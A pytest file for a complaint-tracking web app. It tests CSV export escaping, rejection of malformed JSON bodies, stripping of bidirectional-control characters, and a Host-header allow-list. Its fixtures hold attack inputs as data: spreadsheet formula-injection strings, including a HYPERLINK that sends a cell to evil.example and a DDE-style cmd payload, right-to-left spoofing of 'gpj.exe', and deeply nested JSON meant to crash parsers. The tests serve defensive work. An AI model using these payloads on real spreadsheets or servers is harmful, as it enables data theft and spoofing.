"""Web hardening (issue 10, items 7, 10, 11, 12) against a real SQLite store:
CSV export safe under any delimiter, request bodies that used to give 500s,
bidirectional controls in metadata, and `complaintwatch serve` as a real
waitress process with a Host allow-list."""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import re
import subprocess
import sys
from datetime import datetime, timezone
from html.parser import HTMLParser
from pathlib import Path

import pytest

from complaintwatch.models import Incident, Post, SiteKind
from indexer.store import open_store
from web import create_app
from web.hosts import default_allowed_hosts, host_allowed, parse_host
from web.safetext import BIDI_CONTROLS

REPO_ROOT = Path(__file__).resolve().parent.parent
DANGER = ("=", "+", "-", "@", "\t", "\r")
RLO, PDF, RLI = "\u202e", "\u202c", "\u2067"

# each hides a formula behind a delimiter the spreadsheet may split on
CSV_TITLE = 'Refund refused;=HYPERLINK("http://evil.example/?x="&A1,"click")'
CSV_AUTHOR = "bob,=1+2;@SUM(1+1)"
CSV_TEXT = (
    "SkyJet kept my money; =cmd|' /C calc'!A0\n"
    "Total, +1 refund missing;-2 stars; @everyone\n"
    'Quoted;"=2+3" and tabbed,\t=4+4 and spaced;   -5\n'
    "=starts the text"
)
BIDI_TITLE = f"Refund refused {RLO}gpj.exe{PDF} for my ticket"
BIDI_AUTHOR = f"Mallory{RLO}evil"
BIDI_TEXT = f"The refund for order 42 {RLO}was refused twice and nobody answered."


def _post(url: str, title: str, text: str, author: str, day: int) -> Post:
    return Post(
        url=url,
        source_site="reviews.example",
        site_kind=SiteKind.REVIEW,
        title=title,
        text=text,
        author=author,
        published_at=datetime(2024, 3, day, tzinfo=timezone.utc),
    )


@pytest.fixture(scope="module")
def hardening_store(tmp_path_factory):
    path = tmp_path_factory.mktemp("hardening") / "h.db"
    store = open_store(path)
    posts = [
        _post("https://reviews.example/skyjet/csv", CSV_TITLE, CSV_TEXT, CSV_AUTHOR, 5),
        _post("https://reviews.example/skyjet/bidi", BIDI_TITLE, BIDI_TEXT, BIDI_AUTHOR, 6),
        # a comment without a title: its list entry says "Comment by <author>"
        Post(
            url="https://reviews.example/skyjet/bidi#c1",
            source_site="reviews.example",
            site_kind=SiteKind.REVIEW,
            title="",
            text="Same here, the refund never came.",
            author=BIDI_AUTHOR,
            parent_url="https://reviews.example/skyjet/bidi",
            thread_url="https://reviews.example/skyjet/bidi",
            position=1,
            published_at=datetime(2024, 3, 7, tzinfo=timezone.utc),
        ),
    ]
    store.upsert_posts(posts)
    store.set_analysis([(p.id, ["skyjet"], "en") for p in posts])
    store.replace_incidents(
        [Incident(1, "Refund refused", "Отказ в возврате", ["refund"], size=3, taxonomy_key=None)],
        {p.id: 1 for p in posts},
    )
    yield store, {"csv": posts[0].id, "bidi": posts[1].id, "comment": posts[2].id}, path
    store.close()


@pytest.fixture(scope="module")
def client(hardening_store):
    store, _, _ = hardening_store
    app = create_app(store, None, {"TESTING": True, "COMPANY_NAMES": {"skyjet": f"Sky{RLI}Jet{RLO}"}})
    return app.test_client()


# -- 7. CSV export under "," and ";" -------------------------------------------


def _segments(raw: str, seps: str) -> list[str]:
    return [s.lstrip(' "') for s in re.split(f"[{re.escape(seps)}]", raw)]


def test_csv_export_has_no_formula_cell_under_comma_or_semicolon(client, hardening_store):
    _, ids, _ = hardening_store
    r = client.get("/export.csv", query_string={"q": "refund"})
    assert r.status_code == 200 and r.mimetype == "text/csv"
    raw = r.data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert ids["csv"] in {int(x["id"]) for x in rows}
    for sep in (",", ";"):
        bad = [s for s in _segments(raw, sep) if s.startswith(DANGER)]
        assert not bad, (sep, bad)
    # and with every other split a spreadsheet may make (lines, tabs)
    bad = [s for s in _segments(raw, ",;\t\r\n") if s.startswith(DANGER[:4])]
    assert not bad, bad


def test_csv_export_keeps_the_text_apart_from_the_guard_apostrophes(client, hardening_store):
    _, ids, _ = hardening_store
    rows = list(csv.DictReader(io.StringIO(client.get("/export.csv?q=refund").data.decode("utf-8-sig"))))
    row = next(x for x in rows if int(x["id"]) == ids["csv"])
    unguard = re.compile(r"'(?=[=+\-@\t\r])")
    assert unguard.sub("", row["title"]) == CSV_TITLE
    assert unguard.sub("", row["author"]) == CSV_AUTHOR
    assert unguard.sub("", row["text"]) == CSV_TEXT
    assert row["title"].startswith("Refund refused;'=HYPERLINK(")
    assert row["text"].startswith("SkyJet kept my money; '=cmd")


# -- 10. request bodies that must be a 400, never a 500 -------------------------

BAD_BODIES = {
    "lone surrogate in a string": b'{"name": "\\ud800"}',
    "lone low surrogate in params": b'{"name": "x", "params": {"q": "refund \\udfff"}}',
    "lone surrogate in a key": b'{"\\ud800": 1, "name": "x"}',
    "UTF-8-encoded surrogate bytes": b'{"name": "\xed\xa0\x80"}',
    "invalid UTF-8": b'{"name": "\xff\xfe refund"}',
    "100000 nested arrays": b"[" * 100_000,
    "100000 nested arrays in a value": b'{"name": "x", "params": ' + b"[" * 100_000,
    "deep but valid nesting": b'{"name": "x", "params": {"q": ' + b"[" * 200 + b"]" * 200 + b"}}",
    "deep nested objects": b'{"a":' * 5000 + b"1" + b"}" * 5000,
    "integer with 10000 digits": b'{"kind": "watch", "params": {"company": "skyjet", "incident": '
    + b"9" * 10_000
    + b"}}",
    "not JSON": b"{name: 'x'}",
    "empty": b"",
}


def _alert_count(client) -> int:
    return len(client.get("/api/v1/alerts").get_json()["alerts"])


@pytest.fixture(scope="module")
def alert_id(client):
    r = client.post("/api/v1/alerts", json={"name": "refunds", "params": {"q": "refund"}})
    assert r.status_code == 201, r.data
    return r.get_json()["id"]


@pytest.mark.parametrize("name", list(BAD_BODIES))
def test_bad_json_bodies_are_400_with_a_message(client, alert_id, name):
    before = _alert_count(client)
    for path in ("/api/v1/alerts", f"/api/v1/alerts/{alert_id}/seen"):
        r = client.post(path, data=BAD_BODIES[name], content_type="application/json")
        assert r.status_code == 400, (path, r.status_code, r.data[:300])
        assert r.mimetype == "application/json"
        err = r.get_json()["error"]
        assert err["status"] == 400 and isinstance(err["message"], str) and err["message"]
    assert _alert_count(client) == before
    # still answering normally afterwards
    assert client.post(f"/api/v1/alerts/{alert_id}/seen", json={}).status_code == 200


def test_surrogate_and_depth_messages_say_what_is_wrong(client):
    r = client.post("/api/v1/alerts", data=BAD_BODIES["lone surrogate in a string"], content_type="application/json")
    assert "surrogate" in r.get_json()["error"]["message"]
    r = client.post("/api/v1/alerts", data=BAD_BODIES["100000 nested arrays"], content_type="application/json")
    assert "nested" in r.get_json()["error"]["message"]


def test_oversized_body_is_413_not_500(client):
    body = json.dumps({"name": "x" * (2 << 20)}).encode()
    r = client.post("/api/v1/alerts", data=body, content_type="application/json")
    assert r.status_code == 413 and r.get_json()["error"]["status"] == 413


# -- 11. bidirectional controls -----------------------------------------------

VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
BIDI_RE = re.compile(f"[{BIDI_CONTROLS}]")


class _BidiAudit(HTMLParser):
    """Every bidi control on the page, with whether an element isolates it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.stack: list[tuple[str, dict]] = []
        self.loose: list[str] = []  # controls outside any <bdi> / [dir] element
        self.in_attrs: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.in_attrs += [f"{tag} {k}={v!r}" for k, v in attrs.items() if v and BIDI_RE.search(v)]
        if tag not in VOID:
            self.stack.append((tag, attrs))

    def handle_endtag(self, tag):
        for i in range(len(self.stack) - 1, -1, -1):
            if self.stack[i][0] == tag:
                del self.stack[i:]
                break

    def handle_data(self, data):
        if BIDI_RE.search(data) and not any(t == "bdi" or "dir" in a for t, a in self.stack):
            self.loose.append(f"<{'/'.join(t for t, _ in self.stack)}> {data.strip()!r}")


def _audit(html: str) -> _BidiAudit:
    a = _BidiAudit()
    a.feed(html)
    a.close()
    return a


def test_bidi_controls_cannot_reorder_list_post_and_search_pages(client, hardening_store):
    _, ids, _ = hardening_store
    pages = {
        "search": "/search?q=refund",
        "latest": "/",
        "post": f"/post/{ids['bidi']}",
        "comment": f"/post/{ids['comment']}",
        "company": "/company/skyjet",
        "incident": "/incident/1",
        "companies": "/companies",
    }
    for name, path in pages.items():
        r = client.get(path)
        assert r.status_code == 200, (name, r.status_code)
        html = r.get_data(as_text=True)
        audit = _audit(html)
        assert not audit.loose, (name, audit.loose)
        assert not audit.in_attrs, (name, audit.in_attrs)
        title = re.search(r"<title>(.*?)</title>", html, re.S).group(1)
        assert not BIDI_RE.search(title), (name, title)
        if name != "companies":
            # the metadata is shown, minus the controls
            assert "Malloryevil" in html, name
    post_html = client.get(f"/post/{ids['bidi']}").get_data(as_text=True)
    assert "Refund refused gpj.exe for my ticket" in post_html
    assert "SkyJet" in post_html  # the company name without its controls


def test_bidi_controls_are_stripped_from_api_and_feed_metadata(client, hardening_store):
    _, ids, _ = hardening_store
    body = client.get(f"/api/v1/post/{ids['bidi']}").get_json()
    assert body["post"]["title"] == "Refund refused gpj.exe for my ticket"
    assert body["post"]["author"] == "Malloryevil"
    assert body["post"]["text"] == BIDI_TEXT  # the post text is kept as written, and isolated on pages
    names = {c["id"]: c["name"] for c in client.get("/api/v1/companies").get_json()["companies"]}
    assert names["skyjet"] == "SkyJet"
    feed = client.get("/company/skyjet/feed.atom").get_data(as_text=True)
    assert "Refund refused gpj.exe for my ticket" in feed and "Malloryevil" in feed
    assert not BIDI_RE.search(re.sub(r"<content[^>]*>.*?</content>|<summary[^>]*>.*?</summary>", "", feed, flags=re.S))


def test_alert_names_lose_bidi_controls(client):
    r = client.post("/api/v1/alerts", json={"name": f"refunds {RLO}evil", "params": {"q": "refund"}})
    assert r.status_code == 201 and r.get_json()["name"] == "refunds evil"
    client.delete(f"/api/v1/alerts/{r.get_json()['id']}")


# -- 12. `complaintwatch serve`: waitress and the Host allow-list ----------------


@pytest.mark.parametrize(
    "host, allowed, ok",
    [
        ("127.0.0.1:8000", ["127.0.0.1:8000"], True),
        ("LOCALHOST:8000", ["localhost:8000"], True),
        ("localhost.:8000", ["localhost:8000"], True),
        ("[::1]:8000", ["[::1]:8000"], True),
        ("127.0.0.1:8001", ["127.0.0.1:8000"], False),
        ("evil.example:8000", ["127.0.0.1:8000"], False),
        ("evil.example", ["127.0.0.1:8000"], False),
        ("127.0.0.1.evil.example:8000", ["127.0.0.1:8000"], False),
        ("127.0.0.1:8000@evil.example", ["127.0.0.1:8000"], False),
        ("127.0.0.1", ["127.0.0.1:80"], True),  # no port: the scheme's default
        ("complaints.example:443", ["complaints.example"], True),  # an entry without a port takes any
        ("a.corp.example", [".corp.example"], True),
        ("corp.example", [".corp.example"], True),
        ("evilcorp.example", [".corp.example"], False),
        ("", ["127.0.0.1:8000"], False),
        (None, ["127.0.0.1:8000"], False),
        ("anything.example", ["*"], True),
    ],
)
def test_host_allow_list_matching(host, allowed, ok):
    assert host_allowed(host, allowed) is ok


def test_default_allow_lists():
    assert set(default_allowed_hosts("127.0.0.1", 8000)) == {"127.0.0.1:8000", "localhost:8000", "[::1]:8000"}
    assert set(default_allowed_hosts("::1", 8000)) == {"127.0.0.1:8000", "localhost:8000", "[::1]:8000"}
    assert default_allowed_hosts("192.0.2.7", 8080) == ["192.0.2.7:8080"]
    wildcard = default_allowed_hosts("0.0.0.0", 8080)
    assert "127.0.0.1:8080" in wildcard and not host_allowed("evil.example:8080", wildcard)
    assert parse_host("[::1]:80") == ("::1", 80) and parse_host("::1") is None and parse_host("a:99999") is None


def _start_serve(store_path: Path, *extra: str, env: dict | None = None) -> tuple[subprocess.Popen, int]:
    proc = subprocess.Popen(
        [sys.executable, "-m", "complaintwatch", "--store", f"sqlite:///{store_path}", "serve", "--port", "0", *extra],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT), **(env or {})},
        cwd=REPO_ROOT,
    )
    line = proc.stdout.readline()
    m = re.search(r"http://127\.0\.0\.1:(\d+)/", line)
    if not m:
        proc.kill()
        pytest.fail(f"serve did not start: {line!r} {proc.stderr.read()[-2000:]}")
    return proc, int(m.group(1))


def _request(port: int, path: str, host: str, method: str = "GET", body: bytes | None = None):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        headers = {"Host": host}
        if body is not None:
            headers["Content-Type"] = "application/json"
        conn.putrequest(method, path, skip_host=True)
        for k, v in headers.items():
            conn.putheader(k, v)
        if body is not None:
            conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body)
        r = conn.getresponse()
        return r.status, dict(r.getheaders()), r.read()
    finally:
        conn.close()


def test_serve_is_waitress_and_refuses_foreign_host_headers(hardening_store, tmp_path):
    _, ids, path = hardening_store
    proc, port = _start_serve(
        path,
        "--allowed-host",
        "complaints.example",
        env={"COMPLAINTWATCH_ALLOWED_HOSTS": ".corp.example, other.example:9"},
    )
    try:
        for host in (f"127.0.0.1:{port}", f"localhost:{port}", "complaints.example", "wiki.corp.example:443"):
            status, headers, body = _request(port, f"/post/{ids['bidi']}", host)
            assert status == 200, (host, status, body[:300])
            assert headers.get("Server") == "waitress", headers  # not "Werkzeug/… Python/…"
        for host in ("evil.example", f"evil.example:{port}", f"127.0.0.1:{port + 1 if port < 65535 else 1}"):
            status, _, body = _request(port, "/", host)
            assert status == 400, (host, status)
            assert b"Host" in body
            status, headers, body = _request(port, "/api/v1/companies", host)
            assert status == 400 and "Host" in json.loads(body)["error"]["message"]
        # the refusal comes first: a rebinding page cannot write either
        status, _, _ = _request(port, "/api/v1/alerts", "evil.example", "POST", b'{"name": "x"}')
        assert status == 400
        # and the bad bodies are 400s over real HTTP too
        status, _, body = _request(port, "/api/v1/alerts", f"127.0.0.1:{port}", "POST", b"[" * 100_000)
        assert status == 400 and "nested" in json.loads(body)["error"]["message"]
        status, _, body = _request(port, "/api/v1/alerts", f"127.0.0.1:{port}", "POST", b'{"name": "\\ud800"}')
        assert status == 400 and "surrogate" in json.loads(body)["error"]["message"]
        assert proc.poll() is None
    finally:
        proc.terminate()
        proc.wait(timeout=30)
